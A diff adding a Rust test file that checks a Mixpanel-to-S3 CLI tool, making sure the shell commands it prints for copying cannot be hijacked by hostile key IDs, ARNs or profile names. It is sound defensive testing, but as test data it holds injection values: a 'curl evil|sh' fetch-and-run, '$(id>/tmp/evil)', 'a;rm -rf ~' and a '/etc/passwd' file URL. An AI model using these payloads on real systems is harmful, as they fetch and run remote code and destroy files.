@@ -1,0 +1,316 @@
+//! What is printed to be copied does what it says and nothing else, whatever an account, a file or a flag is named.
+
+use mixpanel_s3::command_line::{CommandLine, Word};
+use mixpanel_s3::report::commands::{NOT_SHOWN, command_text, quoted};
+use proptest::prelude::*;
+use serde_json::Value;
+
+use crate::support::by_hand::{USER, data, trust};
+use crate::support::program::{bare, run};
+use crate::support::{Cloud, Outcome, Scripted, TOKEN, shell};
+
+/// The ID of a key that is a command, as somebody writes it into a bucket's default encryption.
+const EVIL_KEY: &str = "x;curl${IFS}evil|sh;#";
+/// An ARN that is one, in its partition.
+const EVIL_ARN: &str =
+    "arn:aws$(id>/tmp/evil):kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";
+
+fn encrypted_with(key: &str) -> Scripted {
+    let body = format!(
+        "<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>aws:kms</SSEAlgorithm><KMSMasterKeyID>{}</KMSMasterKeyID></ApplyServerSideEncryptionByDefault></Rule></ServerSideEncryptionConfiguration>",
+        key.replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+    );
+    Scripted::Answer(200, vec![("content-type", "text/xml".into())], body)
+}
+
+/// Everything that a run offers to be copied: what stands between backquotes, after a label, or on a line that begins with a program.
+#[track_caller]
+fn offered(outcome: &Outcome) -> Vec<String> {
+    let mut offered = Vec::new();
+    for line in format!("{}\n{}", outcome.stdout, outcome.stderr)
+        .replace(" \\\n", " ")
+        .lines()
+    {
+        let parts = line.split('`').skip(1).step_by(2);
+        let labelled = line
+            .match_indices(": ")
+            .map(|(at, label)| &line[at + label.len()..]);
+        let candidates = parts.chain(labelled).chain([line.trim()]);
+        offered.extend(
+            candidates
+                .filter(|text| {
+                    ["aws ", "mixpanel-s3 ", "eval "]
+                        .iter()
+                        .any(|program| text.starts_with(program))
+                })
+                .map(str::to_owned),
+        );
+    }
+    offered
+}
+
+/// Every command that is offered is one that a shell reads as plain words. All words.
+#[track_caller]
+fn plain_words(outcome: &Outcome) -> Vec<String> {
+    offered(outcome)
+        .iter()
+        .flat_map(|line| shell::commands(line).unwrap_or_else(|why| panic!("{why}\n{outcome:?}")))
+        .flatten()
+        .collect()
+}
+
+#[track_caller]
+fn json_commands(verdict: &Value) -> Vec<Vec<String>> {
+    let checks = verdict["checks"].as_array().expect("checks");
+    let fixes = checks
+        .iter()
+        .flat_map(|check| check["fix"].as_array().expect("fixes"));
+    fixes
+        .filter_map(|fix| fix["command"].as_str())
+        .filter(|command| *command != NOT_SHOWN)
+        .flat_map(|command| shell::commands(command).unwrap_or_else(|why| panic!("{why}")))
+        .collect()
+}
+
+#[test]
+fn the_default_key_of_a_bucket_commands_nothing() {
+    for key in [EVIL_KEY, EVIL_ARN] {
+        let cloud = Cloud::start();
+        let bucket = cloud.bucket();
+        cloud.bucket_by_hand(&bucket, "eu-west-1");
+        cloud.role_by_hand("theirs", &trust(USER, Some(TOKEN)), &[data(&bucket)]);
+        cloud.script("s3:GET encryption", None, encrypted_with(key));
+        let details = cloud.run(&["print-details"]).exits(0).says("encrypts with");
+        assert!(
+            !plain_words(&details)
+                .iter()
+                .any(|word| word == "--kms-key" || word.contains("evil"))
+        );
+        for more in [&[][..], &["--encryption", "kms"], &["--encryption", "aes"]] {
+            let text = cloud.run(&[&["verify", "--verbose"], more].concat());
+            plain_words(&text);
+            let json = cloud.run(&[&["verify", "--output", "json"], more].concat());
+            for words in json_commands(&json.json()) {
+                assert!(!words.iter().any(|word| word.contains("evil")), "{words:?}");
+            }
+            let advice = json.json()["checks"].to_string();
+            assert!(!advice.contains(&format!("--kms-key {key}")), "{advice}");
+        }
+    }
+}
+
+#[test]
+fn a_key_that_can_be_one_is_offered() {
+    let cloud = Cloud::start();
+    let bucket = cloud.bucket();
+    cloud.bucket_by_hand(&bucket, "eu-west-1");
+    let key = cloud.key_by_hand();
+    cloud.role_by_hand("theirs", &trust(USER, Some(TOKEN)), &[data(&bucket)]);
+    cloud.script("s3:GET encryption", None, encrypted_with(&key));
+    let details = cloud.run(&["print-details"]).exits(0);
+    assert!(plain_words(&details).contains(&cloud.normalize(&key)));
+    let verdict = cloud.run(&["verify", "--output", "json", "--encryption", "kms"]);
+    let advice = verdict.json()["checks"].to_string();
+    let again = format!(
+        "mixpanel-s3 verify --role theirs --bucket acme-xxxxxxxx --encryption kms --kms-key {}",
+        cloud.normalize(&key)
+    );
+    assert!(advice.contains(&again), "{advice}");
+}
+
+#[test]
+fn the_name_of_a_profile_commands_nothing() {
+    for name in [
+        "prod$(touch pwned)",
+        "two words",
+        "it's \"quoted\" `id`",
+        "-x",
+        "a;rm -rf ~",
+        "--endpoint-url=http://evil",
+    ] {
+        let home = tempfile::tempdir().expect("a directory");
+        let profile = format!("--profile={name}");
+        let arguments = ["print-details", &profile];
+        let outcome = run(bare(&home).args(arguments).env("AWS_REGION", "eu-west-1")).exits(3);
+        // A backquote within the name ends the sentence's own.
+        if name.contains('`') {
+            let json = run(bare(&home).args(arguments).args(["--output", "json"]));
+            let hints = json.json_error()["hints"].to_string();
+            assert!(hints.contains("aws sso login --profile"), "{hints}");
+            continue;
+        }
+        let words = plain_words(&outcome);
+        let joined = format!("--profile={name}");
+        assert!(
+            words.iter().any(|word| *word == name || *word == joined),
+            "{name}: {words:?}"
+        );
+    }
+}
+
+#[test]
+fn a_profile_with_a_second_factor_is_quoted_within_eval() {
+    let home = tempfile::tempdir().expect("a directory");
+    // The SDK takes no odder name from a file.
+    let name = "team/prod@eu+1%x:y";
+    let config = format!("[profile {name}]\nmfa_serial = arn:aws:iam::123456789012:mfa/me\n");
+    std::fs::write(home.path().join("config"), config).expect("written");
+    let arguments = ["print-details", "--profile", name];
+    let outcome = run(bare(&home).args(arguments).env("AWS_REGION", "eu-west-1")).exits(3);
+    let evaluated = offered(&outcome)
+        .into_iter()
+        .find(|line| line.starts_with("eval "))
+        .unwrap_or_else(|| panic!("{outcome:?}"));
+    let expected = [
+        "aws",
+        "configure",
+        "export-credentials",
+        "--profile",
+        name,
+        "--format",
+        "env",
+    ];
+    assert_eq!(
+        shell::commands(&evaluated),
+        Ok(vec![expected.map(str::to_owned).into()])
+    );
+}
+
+#[test]
+fn partitions_are_an_exact_list() {
+    let home = tempfile::tempdir().expect("a directory");
+    for arn in [
+        EVIL_ARN,
+        "arn:aws-evil:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
+        "arn:aws:kms: eu-west-1 :123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
+    ] {
+        let arguments = [
+            "setup",
+            "--sandbox",
+            "--yes",
+            "--bucket",
+            "acme",
+            "--project-token",
+            TOKEN,
+        ];
+        let more = ["--encryption", "kms", "--kms-key", arn];
+        run(bare(&home).args(arguments).args(more))
+            .exits(2)
+            .says("it has not the form arn:aws:kms:<region>:<account>:key/<id>");
+    }
+}
+
+#[test]
+fn what_a_shell_cannot_give_back_is_no_command() {
+    let with = |value: &str| CommandLine::aws(["iam", "get-role"]).option("--role-name", value);
+    for value in [
+        "a\nb",
+        "\u{1b}[2J",
+        "a\u{7f}",
+        "a\u{9b}2J",
+        "file:///etc/passwd",
+        "fileb://x",
+    ] {
+        assert_eq!(quoted(&with(value)), None, "{value:?}");
+        assert_eq!(command_text(&with(value)), NOT_SHOWN);
+    }
+    assert_eq!(quoted(&with(&"a".repeat(3000))), None);
+    // What stands in its stead is a comment to a shell, and holds nothing that one acts upon.
+    assert!(NOT_SHOWN.starts_with("# "));
+    assert!(!NOT_SHOWN.contains([
+        '\'', '"', '$', '`', ';', '&', '|', '<', '>', '(', '*', '?', '!'
+    ]));
+}
+
+/// What a word is made of: letters, everything that a shell acts upon, and everything else that shows.
+fn values() -> impl Strategy<Value = String> {
+    let shell = prop::sample::select(
+        " '\"$`\\;&|<>(){}[]*?#~!%^=-+:,@/éü…"
+            .chars()
+            .collect::<Vec<_>>(),
+    );
+    let any = any::<char>().prop_filter("it shows", |c| !c.is_control() && quoted_alone(*c));
+    prop::collection::vec(
+        prop_oneof![3 => shell, 2 => proptest::char::range('a', 'z'), 1 => any],
+        0..24,
+    )
+    .prop_map(|characters| characters.into_iter().collect::<String>())
+    .prop_filter("it is no file", |text| !text.starts_with("file"))
+}
+
+fn quoted_alone(character: char) -> bool {
+    quoted(&CommandLine::aws(["x"]).value(character)).is_some()
+}
+
+fn word_text(word: &Word) -> String {
+    match word {
+        Word::Literal(text) => text.clone(),
+        Word::File(name) => format!("file://{name}"),
+        Word::Variable { name, number: 1 } => format!("${name}"),
+        Word::Variable { name, number } => format!("${name}_{number}"),
+    }
+}
+
+fn command_lines() -> impl Strategy<Value = CommandLine> {
+    let option = (
+        prop::sample::select(vec!["--key-id", "--tag", "--profile"]),
+        values(),
+    );
+    let step = prop_oneof![
+        option.prop_map(|(flag, value)| Word::option(flag, value)),
+        values().prop_map(|value| vec![Word::Literal(value)]),
+        (1_usize..4).prop_map(|number| vec![Word::Variable {
+            name: "MIXPANEL_PROJECT_TOKEN",
+            number
+        }]),
+        Just(vec![Word::flag("--policy"), Word::File("policy.json")]),
+    ];
+    let base = (prop::collection::vec(step, 0..6), any::<bool>(), 0_u8..4).prop_map(
+        |(steps, over_lines, output)| {
+            let command = CommandLine::aws(["s3api", "put"]);
+            let command = if over_lines {
+                command.over_lines()
+            } else {
+                command
+            };
+            let command = steps.into_iter().fold(command, CommandLine::words);
+            match output {
+                0 => command.written_to("policy.json"),
+                1 => command.evaluated(),
+                _ => command,
+            }
+        },
+    );
+    (base, prop::option::of(values())).prop_map(|(command, next)| match next {
+        Some(value) if command.output() == mixpanel_s3::command_line::Output::Shown => {
+            command.and_then(CommandLine::mixpanel_s3(["verify"]).option("--role", value))
+        }
+        _ => command,
+    })
+}
+
+proptest! {
+    #[test]
+    fn every_command_gives_back_the_words_it_was_made_from(command in command_lines()) {
+        let text = quoted(&command).expect("it shows");
+        let mut expected = Vec::new();
+        let mut one = Some(&command);
+        while let Some(command) = one {
+            expected.push(command.groups().iter().flatten().map(word_text).collect::<Vec<_>>());
+            one = command.next();
+        }
+        prop_assert_eq!(shell::commands(&text), Ok(expected), "{}", text);
+    }
+
+    #[test]
+    fn a_value_is_never_taken_for_a_flag(value in values()) {
+        let words = Word::option("--role", &value);
+        let joined = format!("--role={value}");
+        match value.starts_with('-') {
+            true => prop_assert_eq!(words, vec![Word::Literal(joined)]),
+            false => prop_assert_eq!(words.len(), 2),
+        }
+    }
+}
